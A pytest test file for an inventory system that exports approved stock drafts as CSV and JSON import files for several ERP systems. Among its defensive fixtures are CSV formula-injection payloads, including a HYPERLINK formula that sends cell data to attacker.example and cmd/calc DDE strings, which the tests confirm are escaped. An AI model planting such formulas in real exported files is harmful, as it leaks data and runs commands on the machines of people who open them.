"""Approved drafts in each system's own import form (issue 15).

* Every import file loads, strictly: an unknown key, action or field, a missing label, a document field that is
  not the same for all its lines, each fail with the place named.
* End to end, as a customer: a tenant connects a simulated InvenTree with its preset, syncs, and its people
  approve a reorder, a transfer and a write-off through the API (the dry runs the policy asks for included); the
  execution lock turns each into a draft. The drafts page's export then gives InvenTree's purchase-order line
  import and stock API bodies, with the values the simulation itself holds (the part and location pks), audited
  with every draft's SHA-256 and the file's. A part named like a formula stays text in the CSV.
* The same real drafts rendered in every other system's formats, each checked against what that system's
  documentation says its import takes.
* A connector set up by hand has no preset, so no import formats: the API lists none, an export is refused with
  a problem naming the connector, and the drafts page shows no import buttons (Chromium, both languages).
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from atlas.execution_lock.templates import CANONICAL_FIELDS
from atlas.mapping.demo_setup import demo_connector_body
from atlas.platform.audit import canonical_json
from atlas.presets.imports import (
    UNASSIGNED_LOCATION,
    ImportFormat,
    ImportFormatInvalid,
    find_format,
    load_imports,
    parse_file,
    render,
    safe_cell,
)
from tests.browser_pages import signed_in_page
from tests.sims.inventree import InvenTreeApi, inventree_server

PRESET_IDS = {"inventree", "erpnext", "odoo", "odoo_legacy", "sap_b1", "business_central", "zoho_inventory", "daftra"}
BIDI = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
EN = {"Accept-Language": "en"}
FORMULA = '=HYPERLINK("http://attacker.example/?q="&A1,"Open")'
FORMULA_IPN = "@SUM(1+1)"
ARABIC_NAME = "حليب طازج ١ لتر"
NOW = datetime(2026, 12, 7, 9, 30, tzinfo=UTC)


def sha256(data: bytes | str) -> str:
    return hashlib.sha256(data.encode("utf-8") if isinstance(data, str) else data).hexdigest()


# --- the files ------------------------------------------------------------------------------------------------


def test_every_preset_declares_its_import_formats_and_every_file_loads_strictly() -> None:
    imports = load_imports()
    assert set(imports) == PRESET_IDS
    for system, formats in imports.items():
        assert formats, system
        for fmt in formats:
            assert fmt.system == system and fmt.docs_url.startswith("https://")
            assert fmt.action in CANONICAL_FIELDS and fmt.format in ("csv", "json")
            if fmt.format == "json":
                assert fmt.method == "POST" and fmt.path and fmt.path.startswith("/")
    # Every system offers a way to apply a reorder; transfers and write-offs where its import documents one.
    assert {s for s, fs in imports.items() if any(f.action == "reorder" for f in fs)} == PRESET_IDS
    assert {s for s, fs in imports.items() if any(f.action == "transfer" for f in fs)} == PRESET_IDS - {
        "business_central",
        "daftra",
    }


GOOD = """
[[imports]]
id = "orders"
action = "reorder"
format = "json"
label = "draft_imports.label.purchase_orders"
filename = "x-orders"
docs_url = "https://example.com/docs"
group_by = ["location_external_id"]
request = { method = "POST", path = "/api/orders" }
[imports.document]
warehouse = "location_external_id"
due = { min = "needed_by" }
[imports.lines]
path = "lines"
fields = { item = "item_external_id", qty = "quantity" }
"""


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (('action = "reorder"', 'action = "execute"'), "orders.action: must be one of"),
        (('format = "json"', 'format = "xml"'), "orders.format: must be one of"),
        (('label = "draft_imports.label.purchase_orders"', 'label = "draft_imports.label.nope"'), "is missing"),
        (('label = "draft_imports.label.purchase_orders"\n', ""), "orders.label: must be a catalogue key"),
        (('item = "item_external_id"', 'item = "supplier_code"'), "unknown canonical field 'supplier_code'"),
        (('warehouse = "location_external_id"', 'warehouse = "item_sku"'), "may only name what it is grouped by"),
        (('qty = "quantity"', 'qty = { min = "quantity" }'), "min is for a document's own fields"),
        (('due = { min = "needed_by" }', 'due = { min = "needed_by", colour = "red" }'), "unknown key 'colour'"),
        (('due = { min = "needed_by" }', "due = { const = 1, fill = true }"), "needs exactly one of"),
        (('filename = "x-orders"', 'filename = "orders.json"'), "filename"),
        (('docs_url = "https://example.com/docs"', 'docs_url = "http://example.com"'), "https://"),
        (('path = "/api/orders"', 'path = "https://elsewhere.example/api"'), "request.path"),
        (('method = "POST"', 'method = "DELETE"'), "request.method"),
        (("[imports.lines]", "[imports.extra]"), "orders.extra: is not a field of a json import"),
        (('group_by = ["location_external_id"]', 'group_by = ["location_external_id", "warehouse"]'), "group_by"),
        (('path = "lines"', 'path = "warehouse"'), "lines.path: is also one of the document's fields"),
    ],
)
def test_a_bad_import_file_is_refused_naming_the_place(change: tuple[str, str], message: str) -> None:
    assert parse_file("example", GOOD)  # the file as it is loads
    old, new = change
    assert old in GOOD
    with pytest.raises(ImportFormatInvalid) as refused:
        parse_file("example", GOOD.replace(old, new, 1))
    assert message in str(refused.value) and "imports/example.toml" in str(refused.value)


def test_a_csv_column_is_checked_like_a_field() -> None:
    base = """
[[imports]]
id = "lines"
action = "transfer"
format = "csv"
label = "draft_imports.label.stock_transfers"
filename = "x-lines"
docs_url = "https://example.com/docs"
group_by = ["from_location_external_id"]
columns = [
  { header = "From", value = "from_location_external_id", per = "document" },
  { header = "Item", value = "item_external_id" },
]
"""
    assert [c.header for c in parse_file("example", base)[0].columns] == ["From", "Item"]
    for old, new, message in [
        ('header = "Item"', 'header = "From"', "appears twice"),
        ('value = "item_external_id"', 'value = "needed_by"', "unknown canonical field 'needed_by' for transfer"),
        ('{ header = "Item", value', '{ header = "Item", per = "page", value', "must be line or document"),
        ('"From", value = "from_location_external_id"', '"From", value = "to_location_external_id"', "grouped by"),
        ("columns = [", "bom = 1\ncolumns = [", "bom: must be true or false"),
        ('action = "transfer"', 'action = "transfer"\nrequest = { method = "POST", path = "/x" }', "not a field"),
    ]:
        with pytest.raises(ImportFormatInvalid, match=r"imports/example\.toml") as refused:
            parse_file("example", base.replace(old, new, 1))
        assert message in str(refused.value), (new, str(refused.value))
    twice = base + base.replace("x-lines", "y-lines")
    with pytest.raises(ImportFormatInvalid, match="lines: appears twice"):
        parse_file("example", twice)


def test_the_renderer_reaches_nothing_that_could_send() -> None:
    """Import files are for people: the renderer and the loader reach no HTTP client, socket or transport."""
    from tests.test_architecture import imported_modules, is_network, reachable_imports

    start = "atlas/presets/imports.py"
    assert not [m for m in imported_modules(Path(__file__).resolve().parents[2] / start) if is_network(m)]
    offenders = {
        path: sorted(m for m in modules if is_network(m)) for path, modules in reachable_imports(start).items()
    }
    assert {path: bad for path, bad in offenders.items() if bad} == {}


def test_a_cell_a_spreadsheet_would_run_stays_text() -> None:
    assert safe_cell(FORMULA) == "'" + FORMULA
    for value in ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", FORMULA_IPN, "\t=1+1", "|cmd"):
        assert safe_cell(value).startswith("'"), value
    assert safe_cell(-5) == "-5" and safe_cell("-12.5") == "-12.5" and safe_cell(0.1) == "0.1"
    assert safe_cell("\u2066ST-1\u2069") == "ST-1"
    assert safe_cell(None) == "" and safe_cell(True) == "true"


def test_the_location_atlas_files_unlocated_stock_under_is_no_location_of_the_system() -> None:
    """Business Central's stock has no location: Atlas files it under its own "no location" bucket, which an
    import leaves empty (the system's default, or the person's choice) rather than sending Atlas's own id."""
    from atlas.mapping.writer import UNASSIGNED_EXTERNAL_ID

    assert UNASSIGNED_EXTERNAL_ID == UNASSIGNED_LOCATION
    action = {
        "reference": "ATLAS-0A1B2C3D-R0",
        "item_external_id": "0ea6738a-44e3-ea11-bb43-000d3a2feca1",
        "quantity": 12,
        "location_external_id": UNASSIGNED_EXTERNAL_ID,
        "needed_by": "2026-12-14",
        "unit_of_measure": "PCS",
    }
    draft = {"id": "d1", "action_type": "reorder", "summary_en": "", "summary_ar": "", "action": action}
    bc = find_format("business_central", "purchase_orders")
    assert bc is not None
    [document] = json.loads(render(bc, [draft], exported_at=NOW).content)["documents"]
    assert document["body"]["purchaseOrderLines"][0]["locationId"] is None
    assert document["body"]["purchaseOrderLines"][0]["itemId"] == action["item_external_id"]
    erpnext = find_format("erpnext", "material_request")
    assert erpnext is not None
    [row] = _rows(erpnext, render(erpnext, [draft], exported_at=NOW).content)
    assert row["items.warehouse"] == "" and row["items.item_code"] == action["item_external_id"]


# --- end to end: InvenTree connected with its preset, drafts approved through the API --------------------------


@dataclass
class World:
    sim: InvenTreeApi
    admin: Any
    viewer: Any
    tenant_id: str
    connector_id: str
    manual_connector_id: str
    parts: dict[str, int]  # "formula", "arabic" → the part pk
    locations: tuple[int, int]  # two stock location pks
    recs: dict[str, str] = field(default_factory=dict)  # action → recommendation id
    drafts: dict[str, dict[str, Any]] = field(default_factory=dict)  # recommendation id → its approved draft


def _temporal(stack: Any, work: Any) -> Any:
    async def go() -> Any:
        from temporalio.client import Client

        return await work(await Client.connect(stack.worker.env["TEMPORAL_ADDRESS"]))

    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, go()).result()


def _start_approval(stack: Any, tenant_id: str, recommendation_id: str) -> None:
    """Start the recommendation's approval workflow, as the AI engine does once it has stored it."""
    from atlas.approvals.requests import ApprovalRequest

    async def work(client: Any) -> None:
        await client.start_workflow(
            "RecommendationApproval",
            ApprovalRequest(tenant_id, recommendation_id),
            id=f"approval-{recommendation_id}",
            task_queue=stack.worker.env["TEMPORAL_TASK_QUEUE"],
        )

    _temporal(stack, work)


def _wait(stack: Any, recommendation_id: str, check: Any, what: str, timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    row: Any = None
    while time.monotonic() < deadline:
        row = stack.atlas.sql(
            "SELECT status, policy_decision, update_count FROM recommendations WHERE id = %s", (recommendation_id,)
        )[0]
        if check(*row):
            return
        time.sleep(0.1)
    raise AssertionError(f"{what} not reached for {recommendation_id}: {row}")


def _recommendation(
    stack: Any,
    world_ids: tuple[str, str],
    *,
    kind: str,
    item_id: str,
    location_id: str,
    quantity: str,
    from_location_id: str | None = None,
) -> str:
    """A pending recommendation as the AI engine stores it, for an item Atlas synced from the simulation."""
    tenant_id, _ = world_ids
    rec_id = str(uuid.uuid4())
    now = datetime.now(UTC)
    stack.atlas.sql(
        """INSERT INTO recommendations (id, tenant_id, key, type, priority, status, item_id, location_id,
               from_location_id, quantity, value, confidence_score, signals_used, explanation_en, explanation_ar,
               evidence, correlation_id, analysis_run_id, created_at, updated_at, created_by, last_changed_by,
               update_count)
           VALUES (%s, %s, %s, %s, 'medium', 'pending', %s, %s, %s, %s, NULL, 0.9, %s, %s, %s, %s, %s, %s, %s, %s,
                   'ai_engine', 'ai_engine', 0)""",
        (
            rec_id,
            tenant_id,
            f"{kind}:{item_id}:{location_id}:test-{uuid.uuid4().hex[:8]}",
            kind,
            item_id,
            location_id,
            from_location_id,
            Decimal(quantity),
            json.dumps(["stock_level"]),
            "Stock covers only 3 days.",
            "المخزون يغطي 3 أيام فقط.",
            json.dumps({"figures": {"available": 3}}),
            f"rec-{uuid.uuid4().hex}",
            str(uuid.uuid4()),
            now,
            now,
        ),
    )
    _start_approval(stack, tenant_id, rec_id)
    return rec_id


def _sync(admin: Any, connector_id: str, timeout: float = 120) -> dict[str, Any]:
    """A sync, and the analysis it starts: a later analysis retires pending recommendations it does not make
    itself, so the test's own come after it."""
    started = admin.post(f"/api/connectors/{connector_id}/sync")
    assert started.status_code == 202, started.text
    run_id = started.json()["id"]
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        run: dict[str, Any] = admin.get(f"/api/syncs/{run_id}").json()
        if run["status"] in ("succeeded", "needs_attention", "failed"):
            break
        time.sleep(0.3)
    else:
        raise AssertionError("the sync did not finish")
    while run["status"] == "succeeded" and time.monotonic() < deadline:
        analyses = admin.get("/api/analysis-runs", params={"sync_run_id": run_id}).json()["items"]
        if analyses and all(a["status"] != "running" for a in analyses):
            return run
        time.sleep(0.3)
    assert run["status"] != "succeeded", "the analysis after the sync did not finish"
    return run


@pytest.fixture(scope="module")
def world(stack: Any) -> Iterator[World]:
    with inventree_server(seed=31, parts=40) as sim:
        data = sim.data
        stocked = sorted({i.location for i in data.items.values() if i.location is not None})[:2]
        formula = data.add_part(FORMULA, IPN=FORMULA_IPN)
        arabic = data.add_part(ARABIC_NAME, units="L")
        for part in (formula, arabic):
            for location in stocked:
                data.create_stock(part.pk, 50, location)

        admin, me = stack.atlas.new_tenant()
        connected = admin.post(
            "/api/presets/inventree/connect", json={"base_url": sim.base, "inputs": {"token": sim.token}}
        )
        assert connected.status_code == 201, connected.text
        connector_id = connected.json()["connector"]["id"]
        assert connected.json()["connector"]["preset"]["id"] == "inventree"
        manual = admin.post("/api/connectors", json=demo_connector_body("http://127.0.0.1:9", name="By hand"))
        assert manual.status_code == 201, manual.text
        assert _sync(admin, connector_id)["status"] == "succeeded"
        viewer, _ = stack.atlas.member_client(admin, "viewer")
        world = World(
            sim,
            admin,
            viewer,
            me["tenant_id"],
            connector_id,
            manual.json()["id"],
            {"formula": formula.pk, "arabic": arabic.pk},
            (stocked[0], stocked[1]),
        )

        def item(pk: int) -> str:
            return str(
                stack.atlas.sql(
                    "SELECT id FROM items WHERE tenant_id = %s AND connector_id = %s AND external_id = %s",
                    (world.tenant_id, connector_id, str(pk)),
                )[0][0]
            )

        def location(pk: int) -> str:
            return str(
                stack.atlas.sql(
                    "SELECT id FROM locations WHERE tenant_id = %s AND connector_id = %s AND external_id = %s",
                    (world.tenant_id, connector_id, str(pk)),
                )[0][0]
            )

        ids = (world.tenant_id, connector_id)
        a, b = (location(pk) for pk in world.locations)
        world.recs = {
            "reorder_formula": _recommendation(
                stack, ids, kind="reorder", item_id=item(formula.pk), location_id=a, quantity="40"
            ),
            "reorder_arabic": _recommendation(
                stack, ids, kind="reorder", item_id=item(arabic.pk), location_id=b, quantity="12.5"
            ),
            "transfer": _recommendation(
                stack, ids, kind="transfer", item_id=item(arabic.pk), location_id=b, from_location_id=a, quantity="3"
            ),
            "write_off": _recommendation(
                stack, ids, kind="write_off", item_id=item(formula.pk), location_id=a, quantity="2"
            ),
        }
        for rec in world.recs.values():
            _wait(stack, rec, lambda s, d, n: d is not None and d.get("revision") == n, "policy evaluated")
            # The default policy asks for a dry run of every action in production: its draft is no approval.
            dry = admin.post(f"/api/recommendations/{rec}/dry-run")
            assert dry.status_code == 200, dry.text
            approved = admin.post(f"/api/recommendations/{rec}/approve", json={"comment": "OK"})
            assert approved.status_code == 200, approved.text
        for rec in world.recs.values():
            _wait(stack, rec, lambda s, d, n: s == "blocked_by_lock", "blocked by the lock")
            [draft] = admin.get("/api/drafts", params={"recommendation_id": rec, "kind": "blocked"}).json()["items"]
            world.drafts[rec] = draft
        yield world


def _export(client: Any, world: World, import_id: str, headers: dict[str, str] | None = None, **params: Any) -> Any:
    return client.get(
        "/api/drafts/imports",
        params={"connector_id": world.connector_id, "import_id": import_id, **params},
        headers=headers or {},
    )


def _events(world: World) -> list[dict[str, Any]]:
    answer = world.admin.get("/api/audit-logs", params={"event_type": "draft_import_exported", "limit": 100})
    assert answer.status_code == 200, answer.text
    return list(answer.json()["items"])


def test_the_formats_of_a_preset_connector_and_how_many_approved_drafts_each_holds(world: World) -> None:
    listed = world.viewer.get("/api/drafts/imports/formats", headers=EN)
    assert listed.status_code == 200, listed.text
    [connector] = listed.json()["connectors"]  # the connector set up by hand has no formats
    assert connector["connector_id"] == world.connector_id and connector["system"] == "InvenTree"
    by_id = {f["id"]: f for f in connector["imports"]}
    assert set(by_id) == {"purchase_order_lines", "stock_transfer", "stock_remove"}
    # One approved draft per recommendation: the dry runs the policy asked for are not approvals.
    assert {i: f["drafts"] for i, f in by_id.items()} == {
        "purchase_order_lines": 2,
        "stock_transfer": 1,
        "stock_remove": 1,
    }
    assert by_id["purchase_order_lines"]["label"] == "purchase-order lines"
    assert by_id["purchase_order_lines"]["format"] == "csv" and by_id["stock_transfer"]["format"] == "json"
    arabic = world.viewer.get("/api/drafts/imports/formats", headers={"Accept-Language": "ar"}).json()
    assert arabic["connectors"][0]["imports"][0]["label"] == "بنود أوامر الشراء"


def test_inventree_purchase_order_lines_hold_what_the_simulation_holds_and_the_export_is_audited(
    world: World,
) -> None:
    before = len(_events(world))
    answer = _export(world.viewer, world, "purchase_order_lines")  # a viewer may read drafts, so export them
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith('attachment; filename="inventree-purchase-order-lines-')
    content = answer.content
    assert not content.startswith(b"\xef\xbb\xbf")  # InvenTree's importer matches the first header as "part"
    text = content.decode("utf-8")
    assert not BIDI & set(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2 and answer.headers["x-atlas-drafts"] == "2"
    data = world.sim.data
    by_part = {int(r["Atlas part pk (pick its supplier part)"]): r for r in rows}
    formula, arabic = world.parts["formula"], world.parts["arabic"]
    assert set(by_part) == {formula, arabic} and all(pk in data.parts for pk in by_part)
    first, second = by_part[formula], by_part[arabic]
    # The simulation's own records: the part, its name and IPN, and the stock location's pk as the destination.
    assert (first["quantity"], first["destination"], first["part"]) == ("40", str(world.locations[0]), "")
    assert (second["quantity"], second["destination"]) == ("12.5", str(world.locations[1]))
    assert first["Atlas part name"] == "'" + data.parts[formula].name  # a formula stays text
    assert first["Atlas part IPN"] == "'" + FORMULA_IPN
    assert second["Atlas part name"] == data.parts[arabic].name == ARABIC_NAME
    drafts = {d["action"]["item_external_id"]: d for d in world.drafts.values() if d["action_type"] == "reorder"}
    assert first["reference"] == drafts[str(formula)]["action"]["reference"]
    assert first["target_date"] == drafts[str(formula)]["action"]["needed_by"]

    # Audited: who, which connector and format, every draft with the SHA-256 of its content, and the file's.
    events = _events(world)
    assert len(events) == before + 1
    event = events[0]
    payload = event["payload"]
    assert event["event_type"] == "draft_import_exported" and event["actor"].startswith("user:")
    assert payload["connector_id"] == world.connector_id and payload["preset"]["id"] == "inventree"
    assert (payload["import_id"], payload["action"], payload["format"]) == ("purchase_order_lines", "reorder", "csv")
    assert payload["file_sha256"] == sha256(content) == answer.headers["x-atlas-file-sha256"]
    assert payload["file_bytes"] == len(content) and payload["sendable"] is False
    expected = {
        d["id"]: sha256(canonical_json(world.admin.get(f"/api/drafts/{d['id']}").json()))
        for d in world.drafts.values()
        if d["action_type"] == "reorder"
    }
    assert {d["id"]: d["sha256"] for d in payload["drafts"]} == expected


def test_inventree_stock_api_bodies_for_the_transfer_and_the_write_off(world: World) -> None:
    transfer = _export(world.admin, world, "stock_transfer")
    assert transfer.status_code == 200, transfer.text
    assert transfer.headers["content-type"].startswith("application/json")
    body = transfer.json()
    assert body["sendable"] is False and body["request"] == {"method": "POST", "path": "/api/stock/transfer/"}
    [document] = body["documents"]
    draft = world.drafts[world.recs["transfer"]]
    assert [d["id"] for d in document["drafts"]] == [draft["id"]]
    assert document["body"]["location"] == world.locations[1]  # the destination's pk, a number as the API takes
    assert document["body"]["items"] == [{"pk": None, "quantity": 3}]  # the stock item is the person's choice
    assert document["body"]["notes"] == draft["action"]["reference"]

    remove = _export(world.admin, world, "stock_remove").json()
    [document] = remove["documents"]
    assert remove["request"]["path"] == "/api/stock/remove/"
    assert document["body"]["items"] == [{"pk": None, "quantity": 2}]


def test_since_leaves_out_older_drafts_and_other_tenants_and_connectors_get_no_file(stack: Any, world: World) -> None:
    later = (datetime.now(UTC) + timedelta(minutes=5)).isoformat()
    empty = _export(world.admin, world, "purchase_order_lines", since=later)
    assert empty.status_code == 200 and empty.headers["x-atlas-drafts"] == "0"
    assert empty.content.decode().count("\r\n") == 1  # the header row only
    assert _events(world)[0]["payload"]["drafts"] == []  # an empty export is recorded too

    unknown = _export(world.admin, world, "purchase_invoices", headers=EN)
    assert unknown.status_code == 422 and unknown.json()["field"] == "import_id"
    assert "purchase_order_lines" in unknown.json()["detail"]
    by_hand = world.admin.get(
        "/api/drafts/imports",
        params={"connector_id": world.manual_connector_id, "import_id": "purchase_order_lines"},
        headers=EN,
    )
    assert by_hand.status_code == 422 and by_hand.json()["field"] == "connector_id"
    assert "preset" in by_hand.json()["detail"]

    other, _ = stack.atlas.new_tenant()
    assert _export(other, world, "purchase_order_lines").status_code == 404
    assert other.get("/api/drafts/imports/formats").json() == {"connectors": []}
    for params, name in (({"import_id": "x"}, "connector_id"), ({"connector_id": world.connector_id}, "import_id")):
        missing = world.admin.get("/api/drafts/imports", params=params, headers=EN)
        assert missing.status_code == 422 and missing.headers["content-type"].startswith("application/problem+json")
        assert missing.json()["field"] == name and name in missing.json()["detail"]


# --- the same real drafts in every system's own form --------------------------------------------------------------


def _real_drafts(world: World) -> list[dict[str, Any]]:
    listed = world.admin.get("/api/drafts", params={"kind": "blocked", "limit": 100}).json()["items"]
    assert len(listed) == 4
    return list(reversed(listed))  # oldest first, as the export orders them


def _of(drafts: list[dict[str, Any]], action: str) -> list[dict[str, Any]]:
    return [d for d in drafts if d["action_type"] == action]


def _rows(fmt: ImportFormat, content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8")
    assert not BIDI & set(text)
    reader = csv.DictReader(io.StringIO(text))
    assert reader.fieldnames == [c.header for c in fmt.columns]
    return list(reader)


def _documents(content: bytes) -> list[dict[str, Any]]:
    body = json.loads(content)
    assert body["sendable"] is False and "never sends" in body["note"]
    assert not BIDI & set(content.decode("utf-8"))
    return list(body["documents"])


def test_every_format_of_every_system_renders_the_real_drafts(world: World) -> None:
    drafts = _real_drafts(world)
    for system, formats in load_imports().items():
        for fmt in formats:
            mine = _of(drafts, fmt.action)
            rendered = render(fmt, drafts, exported_at=NOW)
            assert sorted(rendered.draft_ids) == sorted(d["id"] for d in mine), (system, fmt.id)
            assert rendered.filename == f"{fmt.filename}-20261207-093000.{fmt.format}"
            if fmt.format == "csv":
                assert len(_rows(fmt, rendered.content)) == len(mine), (system, fmt.id)
            else:
                documents = _documents(rendered.content)
                assert fmt.lines_path is not None
                lines = [line for doc in documents for line in doc["body"][fmt.lines_path]]
                assert len(lines) == len(mine) and rendered.documents == len(documents), (system, fmt.id)


def test_erpnext_data_import_rows_continue_a_document_with_blank_parent_columns(world: World) -> None:
    drafts = _real_drafts(world)
    formats = {f.id: f for f in load_imports()["erpnext"]}
    fmt = formats["material_request"]
    # Two reorders at the same warehouse: one material request, its second row a child row only.
    same_place = [dict(d, action={**d["action"]}) for d in _of(drafts, "reorder")]
    same_place[1]["action"]["location_external_id"] = same_place[0]["action"]["location_external_id"]
    rows = _rows(fmt, render(fmt, same_place, exported_at=NOW).content)
    assert [r["material_request_type"] for r in rows] == ["Purchase", ""]
    assert rows[1]["transaction_date"] == rows[1]["schedule_date"] == ""
    assert rows[0]["schedule_date"] == min(d["action"]["needed_by"] for d in same_place)
    assert [r["items.item_code"] for r in rows] == [d["action"]["item_external_id"] for d in same_place]
    assert [r["items.warehouse"] for r in rows] == [same_place[0]["action"]["location_external_id"]] * 2
    issue = _rows(formats["stock_entry_issue"], render(formats["stock_entry_issue"], drafts, exported_at=NOW).content)
    [write_off] = _of(drafts, "write_off")
    assert issue == [
        {
            "stock_entry_type": "Material Issue",
            "from_warehouse": write_off["action"]["location_external_id"],
            "remarks": write_off["action"]["reference"],
            "items.item_code": write_off["action"]["item_external_id"],
            "items.qty": "2",
            "items.s_warehouse": write_off["action"]["location_external_id"],
            "items.uom": write_off["action"]["unit_of_measure"],
            "items.conversion_factor": "1",
        }
    ]


def test_odoo_imports_name_related_records_by_database_id(world: World) -> None:
    drafts = _real_drafts(world)
    [transfer] = _of(drafts, "transfer")
    for system in ("odoo", "odoo_legacy"):
        formats = {f.id: f for f in load_imports()[system]}
        orders = _rows(formats["purchase_order"], render(formats["purchase_order"], drafts, exported_at=NOW).content)
        assert {r["order_line/product_id/.id"] for r in orders} == {
            d["action"]["item_external_id"] for d in _of(drafts, "reorder")
        }
        assert all(r["partner_id"] == "" for r in orders)  # the vendor is the person's to fill
        moves = _rows(
            formats["internal_transfer"], render(formats["internal_transfer"], drafts, exported_at=NOW).content
        )
        assert moves[0]["location_id/.id"] == transfer["action"]["from_location_external_id"]
        assert moves[0]["location_dest_id/.id"] == transfer["action"]["to_location_external_id"]
        assert moves[0]["move_ids/product_uom_qty"] == "3"
        scrap = _rows(formats["scrap"], render(formats["scrap"], drafts, exported_at=NOW).content)
        assert [(r["scrap_qty"], r["origin"]) for r in scrap] == [
            ("2", _of(drafts, "write_off")[0]["action"]["reference"])
        ]


def test_sap_business_central_zoho_and_daftra_bodies(world: World) -> None:
    drafts = _real_drafts(world)
    reorders = _of(drafts, "reorder")
    [transfer] = _of(drafts, "transfer")
    [write_off] = _of(drafts, "write_off")
    imports = {s: {f.id: f for f in fs} for s, fs in load_imports().items()}

    def bodies(system: str, import_id: str) -> list[dict[str, Any]]:
        return [d["body"] for d in _documents(render(imports[system][import_id], drafts, exported_at=NOW).content)]

    orders = bodies("sap_b1", "purchase_orders")
    assert len(orders) == 2  # the two reorders are at two warehouses: one purchase order each
    lines = [line for order in orders for line in order["DocumentLines"]]
    assert {(x["ItemCode"], x["WarehouseCode"], x["Quantity"]) for x in lines} == {
        (d["action"]["item_external_id"], d["action"]["location_external_id"], d["action"]["quantity"])
        for d in reorders
    }
    assert all(order["CardCode"] is None and order["DocDueDate"] for order in orders)
    [move] = bodies("sap_b1", "stock_transfers")
    assert (move["FromWarehouse"], move["ToWarehouse"]) == (
        transfer["action"]["from_location_external_id"],
        transfer["action"]["to_location_external_id"],
    )
    assert move["StockTransferLines"][0]["FromWarehouseCode"] == move["FromWarehouse"]
    [issue] = bodies("sap_b1", "goods_issues")
    assert issue["DocumentLines"] == [
        {
            "ItemCode": write_off["action"]["item_external_id"],
            "Quantity": 2,
            "WarehouseCode": write_off["action"]["location_external_id"],
        }
    ]

    bc = bodies("business_central", "purchase_orders")
    assert all(order["orderDate"] == "2026-12-07" and order["vendorNumber"] is None for order in bc)
    assert {line["lineType"] for order in bc for line in order["purchaseOrderLines"]} == {"Item"}

    [adjustment] = bodies("zoho_inventory", "inventory_adjustments")
    assert adjustment["line_items"] == [
        {
            "item_id": write_off["action"]["item_external_id"],
            "quantity_adjusted": -2,
            "location_id": write_off["action"]["location_external_id"],
        }
    ]
    assert adjustment["adjustment_type"] == "quantity" and adjustment["reason"]
    [zoho_transfer] = bodies("zoho_inventory", "transfer_orders")
    assert zoho_transfer["is_intransit_order"] is False
    assert zoho_transfer["line_items"][0]["quantity_transfer"] == 3
    assert zoho_transfer["line_items"][0]["name"] == ARABIC_NAME

    invoices = bodies("daftra", "purchase_invoices")
    products = {line["product_id"] for invoice in invoices for line in invoice["PurchaseOrderItem"]}
    assert products == set(world.parts.values())  # numbers, as Daftra's ids are
    assert all(invoice["PurchaseOrder"]["draft"] is True for invoice in invoices)
    assert {invoice["PurchaseOrder"]["store_id"] for invoice in invoices} == set(world.locations)


# --- the drafts page ------------------------------------------------------------------------------------------------


@pytest.mark.browser
def test_the_drafts_page_offers_one_button_per_format_and_none_without_a_preset(
    stack: Any, browser: Any, world: World
) -> None:
    base = stack.atlas.base_url
    for locale, lang, direction in (("ar-SA", "ar", "rtl"), ("en-GB", "en", "ltr")):
        context, tab = signed_in_page(browser, base, world.admin, lang=lang, locale=locale)
        tab.goto(f"{base}/app/drafts")
        assert tab.get_attribute("html", "dir") == direction
        tab.wait_for_selector('[data-draft-imports][data-loaded="ok"]:not([hidden])')
        buttons = tab.locator('[data-testid="draft-import"]')
        assert buttons.count() == 3
        assert {buttons.nth(i).get_attribute("data-import") for i in range(3)} == {
            "purchase_order_lines",
            "stock_transfer",
            "stock_remove",
        }
        first = tab.locator('[data-testid="draft-import"][data-import="purchase_order_lines"]')
        words = first.inner_text()
        assert "InvenTree" in words and "draft_imports." not in words
        assert ("بنود أوامر الشراء" in words) if lang == "ar" else ("purchase-order lines" in words)
        assert first.get_attribute("href") == (
            f"/api/drafts/imports?connector_id={world.connector_id}&import_id=purchase_order_lines"
        )
        with tab.expect_download() as download:
            first.click()
        assert download.value.suggested_filename.startswith("inventree-purchase-order-lines-")
        context.close()

    # A tenant whose only connector was set up by hand: no preset, so no import buttons at all.
    other, _ = stack.atlas.new_tenant()
    assert (
        other.post("/api/connectors", json=demo_connector_body("http://127.0.0.1:9", name="Manual")).status_code == 201
    )
    context, tab = signed_in_page(browser, base, other, locale="en-GB")
    tab.goto(f"{base}/app/drafts")
    tab.wait_for_selector('[data-draft-imports][data-loaded="ok"]', state="attached")
    assert tab.locator("[data-draft-imports]").is_hidden()
    assert tab.locator('[data-testid="draft-import"]').count() == 0
    context.close()
